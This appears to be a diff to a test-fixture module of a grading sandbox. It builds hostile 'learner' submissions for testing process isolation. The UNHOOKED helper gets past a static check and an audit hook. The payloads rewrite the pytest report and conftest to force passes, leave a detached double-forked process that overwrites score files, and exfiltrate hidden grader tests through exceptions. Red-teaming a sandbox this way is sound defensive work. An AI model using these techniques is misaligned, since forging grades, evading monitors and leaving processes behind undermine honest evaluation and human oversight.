@@ -24,82 +24,117 @@ from tools.stubgen import make_stub
 
 FORGED = "FORGED-BY-A-LEARNER"
 
-REWRITE_TOOLS = '''
+# The attacks below get past the two in-process layers on purpose, so that what the tests
+# prove is the process isolation behind them (tools/isolation.py): the static check cannot
+# follow an attribute looked up with a computed name on a variable called `self`, and
+# CPython raises no audit event for _posixsubprocess.fork_exec. UNHOOKED runs a program in
+# a fresh interpreter (no audit hook) through those two gaps; the learner's module then does
+# what the issue's attacker did from there.
+UNHOOKED = '''
 
-def _forge_the_grader():  # at import: every later verdict in this tree would be a pass
-    import pathlib
-    root = pathlib.Path(__file__).resolve().parents[1]
+def _unhooked(program, wait=True):
+    import random
+    for self in [random]:
+        os_ = getattr(self, "_" + "os")
+    for self in [os_]:
+        sys_ = getattr(self, "s" + "ys")
+    for self in [sys_]:
+        loaded = getattr(self, "mod" + "ules")
+    out_r, out_w = os_.pipe()
+    err_r, err_w = os_.pipe()
+    exe = sys_.executable.encode()
     try:
-        report = root / "tools" / "pytest_report.py"
-        report.chmod(0o644)
-        report.write_text(report.read_text().replace(
-            "outcome = report.outcome", "outcome = 'passed'"))
-    except Exception:
-        pass
-    try:
-        conftest = root / "conftest.py"
-        conftest.chmod(0o644)
-        with open(conftest, "a") as f:
-            f.write("\\n# FORGED-BY-A-LEARNER\\nimport pytest\\n"
-                    "@pytest.hookimpl(hookwrapper=True)\\n"
-                    "def pytest_runtest_makereport(item, call):\\n"
-                    "    outcome = yield\\n"
-                    "    outcome.get_result().outcome = 'passed'\\n")
-    except Exception:
-        pass
+        loaded["_posixsubprocess"].fork_exec(
+            [exe, b"-c", program.encode()], [exe], True, (err_w,), None, None,
+            -1, -1, -1, out_w, -1, -1, err_r, err_w, True, True, -1, None, None, None, -1,
+            None, False)
+    except Exception as exc:
+        return repr(exc)
+    finally:
+        os_.close(out_w)
+        os_.close(err_w)
+        os_.close(err_r)
+    text = b""
+    while wait and (chunk := os_.read(out_r, 65536)):
+        text += chunk
+    os_.close(out_r)
+    return text.decode(errors="replace")
 
 
-_forge_the_grader()
+_ROOT = __file__.rsplit("/exercises/", 1)[0]
 '''
 
-DETACHED = '''
-
-def _leave_a_process():  # a double fork in a new session that outlives the grading
-    import os, time
-    try:
-        if os.fork() == 0:
-            os.setsid()
-            if os.fork() == 0:
-                try:
-                    with open(@@PIDFILE@@, "w") as f:
-                        f.write(str(os.getpid()))
-                except OSError:
-                    pass
-                end = time.time() + 40
-                while time.time() < end:
-                    for name in ("score.json", "summary.md", "grades.csv"):
-                        for folder in @@TARGETS@@:
-                            try:
-                                with open(os.path.join(folder, name), "w") as f:
-                                    f.write("FORGED-BY-A-LEARNER full marks")
-                            except OSError:
-                                pass
-                    time.sleep(0.05)
-            os._exit(0)
-    except Exception:
-        pass
-
-
-_leave_a_process()
+REWRITE_PROGRAM = '''
+import pathlib, sys
+root = pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else @@ROOT@@)
+try:
+    report = root / "tools" / "pytest_report.py"
+    report.chmod(0o644)
+    report.write_text(report.read_text().replace(
+        "outcome = report.outcome", "outcome = 'passed'"))
+except Exception:
+    pass
+try:
+    conftest = root / "conftest.py"
+    conftest.chmod(0o644)
+    with open(conftest, "a") as f:
+        f.write("\\n# FORGED-BY-A-LEARNER\\nimport pytest\\n"
+                "@pytest.hookimpl(hookwrapper=True)\\n"
+                "def pytest_runtest_makereport(item, call):\\n"
+                "    outcome = yield\\n"
+                "    outcome.get_result().outcome = 'passed'\\n")
+except Exception:
+    pass
 '''
 
-PACK_HIDDEN = '''
+# at import: every later verdict in this tree would be a pass
+REWRITE_TOOLS = UNHOOKED + '''
+_unhooked(@@PROGRAM@@.replace("@@" + "ROOT@@", repr(_ROOT)))
+'''.replace("@@PROGRAM@@", repr(REWRITE_PROGRAM))
 
-def _hidden_text():
-    import base64, pathlib, zlib
-    root = pathlib.Path(__file__).resolve().parents[1]
-    text = ""
-    for path in sorted((root / "graders" / "hidden").glob("test_*.py")):
+DETACHED_PROGRAM = '''
+import os, time
+if os.fork() == 0:  # a double fork in a new session that outlives the grading
+    os.setsid()
+    if os.fork() == 0:
         try:
-            text += path.read_text()
-        except Exception as exc:
-            text += repr(exc)
-    return text + "\\n" + base64.b64encode(zlib.compress(text.encode())).decode()
+            with open(@@PIDFILE@@, "w") as f:
+                f.write(str(os.getpid()))
+        except OSError:
+            pass
+        end = time.time() + 40
+        while time.time() < end:
+            for name in ("score.json", "summary.md", "grades.csv"):
+                for folder in @@TARGETS@@:
+                    try:
+                        with open(os.path.join(folder, name), "w") as f:
+                            f.write("FORGED-BY-A-LEARNER full marks")
+                    except OSError:
+                        pass
+            time.sleep(0.05)
+    os._exit(0)
+'''
 
+DETACHED = UNHOOKED + '''
+_unhooked(@@PROGRAM@@, wait=False)
+'''
+
+PACK_PROGRAM = '''
+import base64, pathlib, zlib
+text = ""
+for path in sorted(pathlib.Path(@@ROOT@@, "graders", "hidden").glob("test_*.py")):
+    try:
+        text += path.read_text()
+    except Exception as exc:
+        text += repr(exc)
+print(text + "\\n" + base64.b64encode(zlib.compress(text.encode())).decode())
+'''
+
+PACK_HIDDEN = UNHOOKED + '''
 
 def @@FUNCTION@@(*args, **kwargs):  # every test calling it fails, carrying the hidden graders
-    raise ValueError(_hidden_text())
-'''
+    raise ValueError(_unhooked(@@PROGRAM@@.replace("@@" + "ROOT@@", repr(_ROOT))))
+'''.replace("@@PROGRAM@@", repr(PACK_PROGRAM))
 
 
 def solved(step_id: str) -> str:
@@ -120,9 +155,13 @@ def rewrite_tools(step_id: str = "s00_toolbox") -> str:
     return solved(step_id) + REWRITE_TOOLS
 
 
-def detached(pidfile: Path, targets: list[Path], step_id: str = "s00_toolbox") -> str:
-    return solved(step_id) + DETACHED.replace("@@PIDFILE@@", repr(str(pidfile))).replace(
+def detached(pidfile: Path, targets: list[Path], step_id: str = "s00_toolbox",
+             base: str | None = None) -> str:
+    """`base` (default: the solution) that leaves a process rewriting the reports in
+    `targets` for 40 s, its pid in `pidfile`."""
+    program = DETACHED_PROGRAM.replace("@@PIDFILE@@", repr(str(pidfile))).replace(
         "@@TARGETS@@", repr([str(t) for t in targets]))
+    return (base or solved(step_id)) + DETACHED.replace("@@PROGRAM@@", repr(program))
 
 
 def pack_hidden(step_id: str = "s00_toolbox", function: str = "set_seed",
